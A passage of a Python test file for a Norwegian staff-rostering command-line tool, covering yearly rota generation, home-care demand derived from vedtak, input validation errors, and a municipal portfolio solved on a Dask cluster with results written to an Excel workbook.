        given.append(args[:5])
        return small_year

    monkeypatch.setattr(cli_main, "plan_year", planned)
    output = tmp_path / "aar.xlsx"
    made = run(
        "aarsturnus", str(unit_file), "--turnus", str(turnus), "--ferie", str(year_file),
        "-o", str(output), "--deterministic", "--time-limit", str(SMALL_YEAR_LIMIT),
    )  # fmt: skip
    assert made.exit_code == 0, made.output
    assert given == [(small_ward, small_ward_turnus, 2027, SMALL_YEAR_INPUT, SMALL_YEAR_PARAMS)]
    assert "Årstimer utenfor toleransen" in made.output
    assert output.is_file()
    checked = run("check", str(output), "--unit", str(unit_file))
    assert checked.exit_code == 0, checked.output
    assert "Ingen brudd på reglene" in checked.output


def test_aarsturnus_refuses_a_bad_year_file_in_words(tmp_path: Path, small_ward: Unit) -> None:
    """A year file with a week that does not exist: the file, the line and no traceback."""
    unit_file = tmp_path / "lille.yaml"
    write_unit_yaml(small_ward, unit_file)
    year_file = tmp_path / "ferie.yaml"
    year_file.write_text("year: 2027\npeople:\n  - id: s1\n    wished_weeks: [tjue]\n")
    made = run(
        "aarsturnus", str(unit_file), "--ferie", str(year_file), "-o", str(tmp_path / "a.xlsx")
    )
    assert made.exit_code != 0
    assert "ferie.yaml" in made.output
    assert "Traceback" not in made.output
    assert not (tmp_path / "a.xlsx").exists()


def test_aarsturnus_refuses_a_year_file_for_another_year(tmp_path: Path, small_ward: Unit) -> None:
    """--year 2027 with a year file for 2026: refused before any work, nothing written."""
    unit_file = tmp_path / "lille.yaml"
    write_unit_yaml(small_ward, unit_file)
    year_file = tmp_path / "ferie.yaml"
    year_file.write_text("year: 2026\n")
    output = tmp_path / "a.xlsx"
    made = run(
        "aarsturnus", str(unit_file), "--year", "2027", "--ferie", str(year_file), "-o", str(output)
    )
    assert made.exit_code == 1
    assert "Årsfila gjelder 2026" in made.output
    assert not output.exists()


def test_vedtak_shows_the_chain_from_vedtak_to_kroner() -> None:
    """`rota vedtak` on the home-care demo: the vedtak, the shifts' heads, årsverk and kroner, the
    two vedtak not valid on 1 January named; exit 0 as every window is covered."""
    shown = run("vedtak", "models/demo/hjemmesone.yaml")
    assert shown.exit_code == 0, shown.output
    for text in ("K101", "hjemmesykepleie", "Årsverk i vakter (÷ 35,5 t)", "Kostnad per år (kr)"):
        assert text in shown.output
    assert "K111 (hjemmesykepleie): ikke gyldig 01.01.2027, ikke med." in shown.output


def test_vedtak_names_a_window_no_shift_covers(tmp_path: Path) -> None:
    """A visit at 23:00 when the last shift ends at 22:30: the client is named, exit code 1."""
    unit = yaml.safe_load(Path("models/demo/hjemmesone.yaml").read_text("utf-8"))
    book = yaml.safe_load(Path("models/demo/hjemmesone-vedtak.yaml").read_text("utf-8"))
    book["vedtak"].append(
        {
            "client": "K199",
            "service": "hjemmesykepleie",
            "hours_per_week": 3.5,
            "windows": [{"start": "23:00", "end": "23:30"}],
        }
    )
    (tmp_path / "hjemmesone-vedtak.yaml").write_text(yaml.safe_dump(book), "utf-8")
    (tmp_path / "sone.yaml").write_text(yaml.safe_dump(unit, allow_unicode=True), "utf-8")
    shown = run("vedtak", str(tmp_path / "sone.yaml"))
    assert shown.exit_code == 1
    assert "Ingen vakt dekker 3,5 t i uka av vedtaket til K199 (hjemmesykepleie)." in shown.output
    assert "Traceback" not in shown.output


def test_vedtak_on_a_unit_without_vedtak_says_so() -> None:
    """The demo ward types its demand: a clear error, no traceback."""
    shown = run("vedtak", "models/demo/sykehjem.yaml")
    assert shown.exit_code != 0
    assert "har ingen vedtak" in shown.output


def test_validate_says_the_demand_came_from_vedtak() -> None:
    """`rota validate` on the home-care demo names its vedtak and their årsverk."""
    shown = run("validate", "models/demo/hjemmesone.yaml")
    assert shown.exit_code == 0, shown.output
    assert (
        "Bemanningen er laget av 10 vedtak: 5,49 årsverk i vakter (2 ikke gyldige" in shown.output
    )


DEMO_PORTFOLIO = Path("scenarios/demo/portefolje/demokommune.yaml")
# Deterministic work units per solve: the least at which every demo unit has a rota today.
DEMO_PORTFOLIO_LIMIT = 2.0
# The settling of a scenario left with gaps (its bound, each person's re-plan) in less work than
# by default: the same figures from the cluster and the local run, in less of the suite's time.
DEMO_PORTFOLIO_SETTLE = {"gap_bound_s": 0.3, "replan_person_s": 0.05}


@pytest.fixture(scope="module")
def demo_municipality(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """`rota portfolio run` on the demo portfolio (ward, bofellesskap, home-care zone from vedtak,
    each with a scenario) on a Dask LocalCluster of two workers, in deterministic mode."""
    folder = tmp_path_factory.mktemp("kommune")
    out, settings = folder / "kommune.xlsx", folder / "innstillinger.yaml"
    settings.write_text(yaml.safe_dump(DEMO_PORTFOLIO_SETTLE), "utf-8")
    shown = run(
        "portfolio", "run", str(DEMO_PORTFOLIO), "-o", str(out), "--jobs", "2",
        "--time-limit", str(DEMO_PORTFOLIO_LIMIT), "--deterministic", "--params", str(settings),
    )  # fmt: skip
    assert shown.exit_code == 0, shown.output
    return out, shown.output


def _unit_rows(book: Any) -> list[dict[str, Any]]:
    sheet = book["Enheter"]
    header = [cell.value for cell in sheet[1]]
    return [
        dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)
    ]


def test_portfolio_run_writes_the_municipality_workbook(
    demo_municipality: tuple[Path, str],
) -> None:
    """The demo municipality's workbook: every unit today has a rota, and each service area's and
    the municipality's årsverk, cost and gap hours are its units' own today added up; the
    økonomiplan sheet has the targets."""
    out, output = demo_municipality
    assert "Økonomiplan" in output
    book = load_workbook(out)
    assert book.sheetnames == ["Sammendrag", "Tjenesteområder", "Enheter", "Økonomiplan"]
    today = [row for row in _unit_rows(book) if row["Valg"] == "I dag"]
    assert len(today) == 3
    assert all(isinstance(row["Kostnad per år"], float) for row in today), today
    areas = {row[0]: row for row in book["Tjenesteområder"].iter_rows(min_row=2, values_only=True)}
    for area, members in [
        *((row["Tjenesteområde"], [row]) for row in today),
        ("Demokommune", today),
    ]:
        gaps, fte, cost = areas[area][2], areas[area][3], areas[area][5]
        assert gaps == pytest.approx(sum(row["Hull (t/uke)"] for row in members))
        assert fte == pytest.approx(sum(row["Årsverk"] for row in members))
        assert cost == pytest.approx(sum(row["Kostnad per år"] for row in members))
    plan = [row[0] for row in book["Økonomiplan"].iter_rows(values_only=True)]
    assert {"Sum", "Mål"} <= set(plan)


def test_portfolio_on_a_cluster_gives_the_local_runs_figures(
    demo_municipality: tuple[Path, str],
) -> None:
    """The same demo portfolio solved here in two local processes, deterministic: every option's
    cost, gap hours and årsverk are the ones the two Dask workers wrote, and every option's
    progress came back from the workers."""
    from scenarios.portfolio import load_portfolio, run_portfolio

    out, output = demo_municipality
    portfolio = load_portfolio(DEMO_PORTFOLIO)
    params = SolveParams(
        deterministic=True, time_limit_s=DEMO_PORTFOLIO_LIMIT, **DEMO_PORTFOLIO_SETTLE
    )
    local = run_portfolio(portfolio, params, jobs=2)
    here = [
        (
            r.option.name,
            round(r.kpis.annual_cost),
            round(r.kpis.gap_hours_per_week, 6),
            round(r.kpis.fte_used, 6),
        )
        for r in local.results
    ]
    cluster = [
        (
            row["Valg"],
            round(row["Kostnad per år"]),
            round(row["Hull (t/uke)"], 6),
            round(row["Årsverk"], 6),
        )
        for row in _unit_rows(load_workbook(out))
    ]
    assert cluster == here
    for option in portfolio.options:
        assert f"Starter: {option.scenario.name}" in output


def test_the_demo_portfolio_reads() -> None:
    """The demo municipality: the ward, the bofellesskap and the home-care zone from vedtak,
    each with its scenario, and a three-year plan."""
    from scenarios.portfolio import load_portfolio

    portfolio = load_portfolio(Path("scenarios/demo/portefolje/demokommune.yaml"))
    assert [unit.name for unit in portfolio.bases] == [
        "Solstua, avdeling 2",
        "Ávjovárri bofellesskap",
        "Hjemmetjenesten sone sør",
    ]
    assert portfolio.bases[2].vedtak is not None
    assert len(portfolio.options) == 6
    assert portfolio.economic_plan is not None
    assert sorted(portfolio.economic_plan.targets) == [2027, 2028, 2029]
